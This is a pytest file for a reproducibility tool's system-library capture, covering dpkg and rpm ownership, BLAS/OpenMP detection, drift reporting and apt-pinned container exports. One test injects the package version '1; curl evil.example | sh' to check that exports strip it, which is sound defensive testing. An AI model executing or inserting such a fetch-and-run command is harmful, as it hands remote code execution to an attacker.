"""System libraries: what a process mapped, who owns it (dpkg read directly), BLAS/OpenMP in use;
drift in diff and replay, apt pins in the container exports, unknown origins in the report."""

from __future__ import annotations

import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
from typing import Any

import pytest

from reproflow.cli._common import run_cli
from reproflow.capture._ospkg import dpkg_owners, rpm_owners
from reproflow.capture.system import drift, run_libraries
from reproflow.cli import app
from reproflow.records import ProcessContext, SharedLibrary, SystemLibraries
from reproflow.store import Store

DEBIAN = shutil.which("dpkg-query") is not None and os.path.exists("/var/lib/dpkg/status")
needs_debian = pytest.mark.skipif(not DEBIAN, reason="reads a Debian system's dpkg database")

#: A numpy pipeline recorded without Prefect's engine: numpy (and Debian's libgomp, the OpenMP
#: runtime) are loaded inside tasks, after the process's context was first captured.
PIPELINE = '''
import ctypes

import reproflow
from reproflow import repro_task


@repro_task
def make(n: int) -> list[float]:
    return [float(i) for i in range(n)]


@repro_task
def gram(xs: list[float]) -> float:
    import numpy as np

    a = np.array(xs).reshape(-1, 1)
    return float((a.T @ a)[0, 0])


@repro_task
def omp_threads() -> int:
    return int(ctypes.CDLL("libgomp.so.1").omp_get_max_threads() > 0)


with reproflow.record(name="gram"):
    gram(make(100))
    omp_threads()
'''


def _dpkg_version(package: str) -> str:
    return subprocess.run(["dpkg-query", "-W", "-f", "${Version}", package], capture_output=True, text=True,
                          check=True).stdout  # fmt: skip


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Two real runs of the pipeline, each in its own fresh process."""
    folder = tmp_path_factory.mktemp("numpy-pipeline")
    (folder / "pipeline.py").write_text(PIPELINE)
    store_url = str(folder / "store")
    runs = []
    for _ in range(2):
        before = set(Store(store_url).run_ids()) if os.path.exists(store_url) else set()
        env = {**os.environ, "REPROFLOW_STORE": store_url, "REPROFLOW_ARTIFACTS": "off"}
        proc = subprocess.run([sys.executable, "pipeline.py"], cwd=folder, env=env, capture_output=True, text=True,
                              timeout=600)  # fmt: skip
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        (new,) = set(Store(store_url).run_ids()) - before
        runs.append(new)
    blas = subprocess.run([sys.executable, "-c", "import json, numpy, threadpoolctl; "
                           "print(json.dumps([threadpoolctl.threadpool_info(), numpy.__version__]))"],
                          capture_output=True, text=True, check=True)  # fmt: skip
    pools, numpy_version = json.loads(blas.stdout)
    return {"store": Store(store_url), "folder": folder, "a": runs[0], "b": runs[1],
            "blas": next(p for p in pools if p["user_api"] == "blas"), "numpy": numpy_version}  # fmt: skip


def _libs_of_task(store: Store, run_id: str, name: str) -> SystemLibraries:
    run = store.load_run(run_id)
    (task,) = [t for t in run.final_tasks() if t.task_name == name]
    assert task.context is not None
    ctx = store.get_model_blob(task.context, ProcessContext)
    assert ctx.system_blob is not None
    return store.get_model_blob(ctx.system_blob, SystemLibraries)


@pytest.mark.slow
@needs_debian
def test_numpy_pipeline_names_its_blas_and_the_debian_packages(recorded: dict[str, Any]) -> None:
    """The task that imported numpy points at the libraries mapped when it ended: the BLAS in use
    (threadpoolctl's file and version, shipped by the numpy wheel, as numpy's wheels bundle
    OpenBLAS), the OpenMP runtime loaded by the next task with its Debian package and version as
    dpkg-query reports them, and every dpkg-owned library at the version dpkg-query gives. The
    first task, which ended before numpy was imported, has no BLAS."""
    store, blas = recorded["store"], recorded["blas"]
    before = _libs_of_task(store, recorded["a"], "make")
    assert not [lib for lib in before.libraries if "blas" in lib.roles]
    libs = _libs_of_task(store, recorded["a"], "gram")
    (b,) = [lib for lib in libs.libraries if "blas" in lib.roles]
    assert b.path == os.path.realpath(blas["filepath"]) and b.version == blas["version"]
    assert (b.origin, b.package, b.package_version) == ("python", "numpy", recorded["numpy"])
    assert b.sha256 and b.soname and re.fullmatch(r"[0-9a-f]{64}", b.sha256)
    assert [t.internal_api for t in libs.threadpools if t.user_api == "blas"] == [blas["internal_api"]]
    assert libs.package_manager == "dpkg"

    omp = _libs_of_task(store, recorded["a"], "omp_threads")
    (gomp,) = [lib for lib in omp.libraries if "openmp" in lib.roles]
    assert gomp.soname == "libgomp.so.1" and gomp.origin == "dpkg" and gomp.package == "libgomp1"
    assert gomp.package_version == _dpkg_version("libgomp1")
    owned = [lib for lib in omp.libraries if lib.origin == "dpkg"]
    assert "libc6" in {lib.package for lib in owned}
    for lib in owned:
        assert lib.package_version == _dpkg_version(f"{lib.package}:{lib.package_arch}" if lib.package_arch else lib.package)


def _edit_libraries(store: Store, run_id: str, edit: Any) -> None:
    """Rewrite every SystemLibraries a run points at with ``edit(lib)``, as a hand-edited store
    would: new blobs, new contexts, the run's and tasks' JSON files pointing at them."""
    run = store.load_run(run_id)
    digests = {run.record.context} | {t.context for t in run.tasks if t.context}
    renamed = {}
    for digest in digests:
        ctx = store.get_model_blob(digest, ProcessContext)
        if ctx.system_blob is None:
            continue
        libs = store.get_model_blob(ctx.system_blob, SystemLibraries)
        for lib in libs.libraries:
            edit(lib)
        ctx.system_blob = store.put_model_blob(libs)
        renamed[digest] = store.put_model_blob(ctx)
    for path in pathlib.Path(store.root, "runs", run_id).rglob("*.json"):
        text = path.read_text()
        for old, new in renamed.items():
            text = text.replace(old, new)
        path.write_text(text)


@pytest.fixture
def edited(recorded: dict[str, Any], tmp_path: pathlib.Path) -> Store:
    """A copy of the store whose run B saw OpenBLAS 0.3.27 and another libgomp1 release."""
    copy = tmp_path / "store-copy"
    shutil.copytree(recorded["store"].root, copy)
    store = Store(copy)

    def edit(lib: SharedLibrary) -> None:
        if "blas" in lib.roles:
            lib.version, lib.sha256 = "0.3.27", "1" * 64
        if lib.package == "libgomp1":
            lib.package_version, lib.sha256 = "12.2.0-99", "2" * 64

    _edit_libraries(store, recorded["b"], edit)
    return store


@pytest.mark.slow
@needs_debian
def test_diff_shows_a_changed_library(recorded: dict[str, Any], edited: Store,
                                      capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """Two runs of one process image have no system-library difference; after run B's record was
    edited to another OpenBLAS and libgomp1, `reproflow diff --json` names both, with the version
    change and the package; the replay's drift lines (same function) say the same."""
    a, b = recorded["a"], recorded["b"]
    assert run_cli(app, ["diff", a, b, "--json", "--store", recorded["store"].url]) == 0
    same = json.loads(capsys.readouterr().out)
    assert not [d for d in same["differences"] if d.startswith("system library")]

    assert run_cli(app, ["diff", a, b, "--json", "--store", edited.url]) == 0
    lines = [d for d in json.loads(capsys.readouterr().out)["differences"] if d.startswith("system library")]
    blas = recorded["blas"]
    openblas = [d for d in lines if "0.3.27" in d]
    assert len(openblas) == 1 and f"{blas['version']} -> 0.3.27 (numpy)" in openblas[0], lines
    gomp = [d for d in lines if "libgomp.so.1" in d]
    assert gomp == [f"system library libgomp.so.1: {_dpkg_version('libgomp1')} -> 12.2.0-99 (libgomp1)"]
    assert len(lines) == 2, lines
    assert run_cli(app, ["diff", a, b, "--store", edited.url]) == 0
    assert "System libraries" in capsys.readouterr().out

    from reproflow.replay._compare import library_drift

    drift_lines = library_drift(edited, edited.load_run(a), edited.load_run(b))
    assert sorted(drift_lines) == sorted(lines)

    from reproflow.replay._compare import explain
    from reproflow.replay._models import TaskVerdict

    original = edited.load_run(a)
    (gram,) = [t for t in original.final_tasks() if t.task_name == "gram"]
    verdict = TaskVerdict(task_name="gram", original_task_run_id=gram.task_run_id, verdict="differs")
    explain([verdict], original, drift_lines, [])
    (cause,) = [c for c in verdict.causes if c.startswith("hardware or system changed")]
    assert all(line in cause for line in drift_lines)
    assert not any(c.startswith("nondeterminism") for c in verdict.causes)


@pytest.mark.slow
@needs_debian
def test_container_exports_pin_the_debian_packages(recorded: dict[str, Any], tmp_path: pathlib.Path) -> None:
    """The Dockerfile installs every Debian package that owned a loaded library at its recorded
    version (dockerfile-parse reads it; hadolint finds nothing); the Apptainer file does too."""
    from dockerfile_parse import DockerfileParser

    from reproflow.export import export_run

    sys.path.insert(0, str(pathlib.Path(__file__).parents[1] / "export"))
    from rf_factory import tool

    store = recorded["store"]
    libs = run_libraries(store, store.load_run(recorded["a"]))
    assert libs is not None
    expected = {f"{lib.package}={lib.package_version}" for lib in libs.libraries if lib.origin == "dpkg"}
    assert f"libgomp1={_dpkg_version('libgomp1')}" in expected and f"libc6={_dpkg_version('libc6')}" in expected
    path = tmp_path / "Dockerfile"
    text = export_run(store, recorded["a"], "dockerfile", out=path)
    assert isinstance(text, str)
    runs = [i["value"] for i in DockerfileParser(fileobj=__import__("io").BytesIO(text.encode())).structure
            if i["instruction"] == "RUN"]  # fmt: skip
    (apt,) = [r for r in runs if "apt-get install" in r]
    assert set(re.findall(r"\S+=\S+", apt)) == expected and "--allow-downgrades" in apt
    lint = subprocess.run([tool("hadolint"), "--no-color", "-f", "json", str(path)], capture_output=True, text=True)
    assert json.loads(lint.stdout or "[]") == []
    apptainer = export_run(store, recorded["a"], "apptainer")
    assert isinstance(apptainer, str)
    (line,) = [x for x in apptainer.splitlines() if "apt-get install" in x]
    assert set(re.findall(r"\S+=\S+", line)) == expected


@pytest.mark.slow
@needs_debian
def test_untrusted_package_names_stay_out_of_the_shell(recorded: dict[str, Any], tmp_path: pathlib.Path) -> None:
    """A record edited to carry a shell command as a package version is left out of the apt line,
    with a note naming it; diff shows it as text."""
    from reproflow.export import export_run

    copy = tmp_path / "store-copy"
    shutil.copytree(recorded["store"].root, copy)
    store = Store(copy)

    def edit(lib: SharedLibrary) -> None:
        if lib.package == "libgomp1":
            lib.package_version = "1; curl evil.example | sh"

    _edit_libraries(store, recorded["a"], edit)
    text = export_run(store, recorded["a"], "dockerfile")
    assert isinstance(text, str)
    assert "curl evil" not in "\n".join(x for x in text.splitlines() if not x.startswith("#"))
    assert "OS package left out, its recorded name or version is not Debian's: 'libgomp1'" in text


@pytest.mark.slow
@needs_debian
def test_report_counts_unknown_origin_libraries(recorded: dict[str, Any], tmp_path: pathlib.Path) -> None:
    """Every library of the real run has a known origin; in a copy where two are of unknown
    origin, the report counts them and names them."""
    from reproflow.analysis._report import build_report

    report = build_report(recorded["store"], recorded["a"])
    (check,) = [c for c in report.checks if c.code == "unknown-libraries"]
    assert check.status == "pass" and check.points_lost == 0
    copy = tmp_path / "store-copy"
    shutil.copytree(recorded["store"].root, copy)
    store = Store(copy)
    marked: list[str] = []

    def edit(lib: SharedLibrary) -> None:
        if lib.package in ("zlib1g", "libgomp1"):
            lib.origin, lib.package, lib.package_version = "unknown", None, None
            marked.append(lib.path)

    _edit_libraries(store, recorded["a"], edit)
    (check,) = [c for c in build_report(store, recorded["a"]).checks if c.code == "unknown-libraries"]
    assert check.status == "info" and check.reason.startswith("2 of ")
    assert sorted(check.details) == sorted(set(marked))


def test_dpkg_database_is_read_directly(tmp_path: pathlib.Path) -> None:
    """Owners come from info/*.list and versions from status; a list that names the file through a
    symlinked folder (merged /usr: /lib -> usr/lib) still owns its real path; a package that is
    not installed any more owns nothing; a path no package lists is left out."""
    real = tmp_path / "usr" / "lib"
    real.mkdir(parents=True)
    (tmp_path / "lib").symlink_to(real)
    (real / "libfoo.so.1.2").write_bytes(b"\x7fELF")
    (real / "libgone.so.1").write_bytes(b"\x7fELF")
    (real / "libnobody.so.1").write_bytes(b"\x7fELF")
    db = tmp_path / "dpkg"
    (db / "info").mkdir(parents=True)
    (db / "info" / "libfoo1:amd64.list").write_text(f"/.\n{tmp_path}/lib\n{tmp_path}/lib/libfoo.so.1.2\n")
    (db / "info" / "libgone1.list").write_text(f"{real}/libgone.so.1\n")
    (db / "status").write_text(
        "Package: libfoo1\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.2-3+deb12u1\n"
        "Description: foo\n more\n\n"
        "Package: libgone1\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 0.9-1\n\n"
    )
    paths = [str(real / n) for n in ("libfoo.so.1.2", "libgone.so.1", "libnobody.so.1")]
    assert dpkg_owners(paths, str(db)) == {paths[0]: ("libfoo1", "1.2-3+deb12u1", "amd64")}
    assert dpkg_owners(paths, str(tmp_path / "no-dpkg")) is None


def test_rpm_is_asked_only_where_it_is_installed(tmp_path: pathlib.Path) -> None:
    """Without an rpm program there is no RPM answer (None, not an error); with one, `rpm -qf`
    answers per path, and a path it does not own is left out."""
    if shutil.which("rpm") is None:
        assert rpm_owners(["/usr/lib/libc.so.6"]) is None
    calls: list[list[str]] = []

    def rpm(args: Any) -> tuple[int, str]:
        calls.append(list(args))
        if args[-1] == "/usr/lib64/libz.so.1":
            return 0, "zlib\t1.2.13-5.fc39\tx86_64\n"
        return 1, f"file {args[-1]} is not owned by any package\n"

    got = rpm_owners(["/usr/lib64/libz.so.1", "/opt/x/libx.so"], runner=rpm, db=str(tmp_path / f"rpmdb-{os.getpid()}"))
    assert got == {"/usr/lib64/libz.so.1": ("zlib", "1.2.13-5.fc39", "x86_64")}
    assert calls[0][:2] == ["-qf", "--qf"]


_LOADS_A_LIBRARY = r"""
import ctypes, ctypes.util, os, sys
from reproflow.capture import clear_cache, context_at_task_end, get_context
from reproflow.capture.system import mapped_files
from reproflow.records import ProcessContext, SystemLibraries
from reproflow.store import Store

clear_cache()
store = Store(sys.argv[1])
digest, ctx = get_context(store)
assert ctx.system_blob is not None
assert context_at_task_end(store, digest) == digest, "nothing was loaded, yet a new context"
mapped = mapped_files() or frozenset()
name = next((n for n in ("bz2", "lzma", "expat", "gomp", "uuid", "ffi") if (found := ctypes.util.find_library(n))
             and not any(os.path.basename(p).startswith(found.split(".so")[0] + ".so") for p in mapped)), None)
if name is None:
    print("SKIP every candidate library is loaded already")
    sys.exit(0)
lib = ctypes.util.find_library(name)
ctypes.CDLL(lib)
new = context_at_task_end(store, digest)
assert new != digest, "a library was loaded, but the context stayed"
libs = store.get_model_blob(store.get_model_blob(new, ProcessContext).system_blob or "", SystemLibraries)
assert any(x.soname == lib or os.path.basename(x.path).startswith(lib) for x in libs.libraries), lib
assert get_context(store)[0] == new and context_at_task_end(store, digest) == new
print("OK", lib)
"""


def test_a_task_that_loads_a_library_gets_a_new_context(tmp_path: pathlib.Path) -> None:
    """Nothing loaded since the capture: the task keeps its context. A library loaded in between:
    a new context, whose libraries include it, and later tasks start from it.

    In a fresh interpreter: in the suite's own process, threads left by earlier tests (Prefect's
    event loops) load libraries at any moment, and "nothing loaded" could not be asserted."""
    (tmp_path / "probe.py").write_text(_LOADS_A_LIBRARY)
    done = subprocess.run([sys.executable, str(tmp_path / "probe.py"), str(tmp_path / "store")],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    if done.stdout.startswith("SKIP"):
        pytest.skip(done.stdout.strip())
    assert done.stdout.startswith("OK")


_HOLDS_A_WAL_DATABASE = r"""
import sqlite3, subprocess, sys
from reproflow.capture.system import capture_system, mapped_files

db = sys.argv[1]
con = sqlite3.connect(db)
con.execute("PRAGMA journal_mode=WAL")
con.execute("CREATE TABLE t (x)")
con.execute("INSERT INTO t VALUES (1)")
con.commit()
assert con.execute("SELECT x FROM t").fetchall() == [(1,)]
# Another process asks for the WAL index's "dead man switch" (byte 128 of the -shm file), which
# sqlite holds shared while a connection is open: taken, sqlite's next opener would truncate the
# index under this process's mapping of it (SIGBUS) or rebuild it apart from this connection.
PROBE = ("import fcntl, os, sys\nfd = os.open(sys.argv[1], os.O_RDWR)\n"
         "try:\n    fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 128)\n    print('free')\n"
         "except OSError:\n    print('held')")
def lock() -> str:
    return subprocess.run([sys.executable, "-c", PROBE, db + "-shm"], capture_output=True, text=True).stdout.strip()
assert db + "-shm" in (mapped_files(executable=False) or ()), "sqlite did not map its WAL index"
assert lock() == "held", lock()
libs = capture_system()
assert libs.libraries, "no library captured"
assert not any(l.path.endswith(("-shm", ".db")) for l in libs.libraries)
assert lock() == "held", "capturing the system dropped sqlite's lock on its WAL index"
assert con.execute("SELECT x FROM t").fetchall() == [(1,)]
print("OK")
"""


def test_capture_leaves_a_wal_database_of_this_process_alone(tmp_path: pathlib.Path) -> None:
    """The system capture opens the ELF files the process has mapped, only those mapped to run:
    never sqlite's WAL index, a file every connection maps and holds a POSIX lock on, which any
    close of any descriptor of that file in the process drops. Reading it as a candidate library
    did, and then a second process opening the database truncated the index under the mapping: a
    flow killed by SIGBUS with no output (seen in the corpus, its hash cache shared with other
    processes)."""
    (tmp_path / "probe.py").write_text(_HOLDS_A_WAL_DATABASE)
    done = subprocess.run([sys.executable, str(tmp_path / "probe.py"), str(tmp_path / "data.db")],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.strip() == "OK", done.stdout + done.stderr


def test_drift_names_version_and_package() -> None:
    """Changed bytes or versions are drift, named by SONAME with a wheel's hash suffix removed;
    a library only one side loaded is drift when it is a BLAS/OpenMP/CUDA library only."""
    def lib(path: str, **kw: Any) -> SharedLibrary:
        return SharedLibrary(path=path, sha256=kw.pop("sha256", "a" * 64), **kw)

    a = SystemLibraries(libraries=[
        lib("/usr/lib/libopenblas.so.0", soname="libopenblas.so.0", version="0.3.21", roles=["blas"],
            origin="dpkg", package="libopenblas0-pthread", package_version="0.3.21+ds-4"),
        lib("/x/numpy.libs/libgfortran-040039e1-0352e75f.so.5.0.0", soname="libgfortran-040039e1.so.5.0.0"),
        lib("/usr/lib/libextra.so.1", soname="libextra.so.1"),
    ])  # fmt: skip
    b = SystemLibraries(libraries=[
        lib("/usr/lib/libopenblas.so.0", soname="libopenblas.so.0", version="0.3.27", roles=["blas"], sha256="b" * 64,
            origin="dpkg", package="libopenblas0-pthread", package_version="0.3.27+ds-1"),
        lib("/y/numpy.libs/libgfortran-11111111-22222222.so.5.0.0", soname="libgfortran-11111111.so.5.0.0"),
        lib("/usr/lib/libgomp.so.1", soname="libgomp.so.1", roles=["openmp"], origin="dpkg", package="libgomp1",
            package_version="12.2.0-14"),
    ])  # fmt: skip
    assert [w for _, _, _, w in drift(a, b)] == [
        "added 12.2.0-14 (libgomp1)",
        "0.3.21 -> 0.3.27 (libopenblas0-pthread)",
    ]
    assert [n for n, *_ in drift(a, b)] == ["libgomp.so.1", "libopenblas.so.0"]
    assert drift(a, None) == [] and drift(a, a) == []
